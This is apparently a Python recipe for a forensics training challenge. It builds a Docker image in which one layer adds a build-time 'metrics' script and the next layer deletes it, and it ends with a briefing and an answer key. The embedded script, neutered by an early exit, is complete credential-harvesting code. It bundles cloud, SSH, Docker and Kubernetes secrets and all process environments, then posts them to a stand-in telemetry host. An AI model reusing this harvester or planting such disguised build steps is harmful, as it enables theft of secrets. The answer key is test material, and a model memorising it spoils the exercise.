"""A script that collects credentials during the build and is deleted by a later layer."""

from __future__ import annotations

from collections.abc import Mapping

from forensics.samples import Answer, Recipe

from ._debian import PYTHON, debian_image
from ._image import Layer, copy, run

_HARVESTER = """#!/usr/bin/env python3
# Training image: this script leaves before it does anything.
raise SystemExit(0)

import base64
import glob
import io
import json
import os
import tarfile
import urllib.request

TARGETS = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.docker/config.json",
    "~/.kube/config",
    "~/.npmrc",
    "~/.pypirc",
    "~/.netrc",
    "~/.git-credentials",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.azure/accessTokens.json",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
]


def environments():
    for name in glob.glob("/proc/*/environ"):
        try:
            yield name, open(name, "rb").read()
        except OSError:
            continue


def collect():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as bundle:
        for target in TARGETS:
            path = os.path.expanduser(target)
            if os.path.exists(path):
                bundle.add(path)
        for name, content in environments():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            bundle.addfile(entry, io.BytesIO(content))
    return base64.b64encode(buffer.getvalue())


def send(data):
    request = urllib.request.Request(
        "https://telemetry.build-metrics.invalid/upload",
        data=json.dumps({"host": os.uname().nodename, "data": data.decode()}).encode(),
        headers={"Content-Type": "application/json", "X-Filename": "build.tar.gz"},
    )
    urllib.request.urlopen(request, timeout=5)


send(collect())
"""
_APP = '''#!/usr/bin/env python3
"""Answers health checks of the order service."""

print("ok")
'''


def _make() -> Mapping[str, bytes]:
    image, debian = debian_image(
        "deleted-harvester", {"Cmd": ["python3", "/srv/orders/app.py"], "WorkingDir": "/srv/orders"}
    )
    image.step(
        run("apt-get install -y --no-install-recommends python3-minimal"),
        debian.install(Layer(), PYTHON),
    )
    image.step("WORKDIR /srv/orders", Layer().folder("/srv/orders"))
    image.step(copy("app.py", "/srv/orders/"), Layer().file("/srv/orders/app.py", _APP, 0o755))
    image.step(copy("tools/", "/opt/build/"), Layer().file("/opt/build/metrics.py", _HARVESTER, 0o755))
    image.step(
        run("python3 /opt/build/metrics.py && rm -rf /opt/build"),
        Layer().remove("/opt/build"),
    )
    image.step('CMD ["python3" "/srv/orders/app.py"]')
    return {".tar": image.docker_archive()}


RECIPE = Recipe(
    id="deleted-harvester",
    title="The build that talked",
    level="medium",
    briefing="""
Credentials of a build machine turned up elsewhere, days after this image was built on it. The
running container was searched from end to end and nothing was found in its file system.

- Is there anything in the image that the container does not show?
- What did it take? The findings say.
- Where did it send it? A list of findings does not say that: read the file, as its layer still holds it.
- Which step brought it, and which one removed it?
""",
    make=_make,
    answers=(
        Answer(
            categories=("credential-access", "exfiltration"),
            severity="high",
            layer=4,
            path="/opt/build/metrics.py",
            state="deleted",
            why="It gathers credentials of a dozen kinds and all processes' environments, and posts them to "
            "https://telemetry.build-metrics.invalid/upload.",
        ),
        Answer(
            categories=("defense-evasion", "integrity", "archive-anomaly"),
            severity="low",
            layer=4,
            path="/opt/build/metrics.py",
            state="deleted",
            why="A program that was added in one layer and deleted in the next.",
        ),
    ),
)
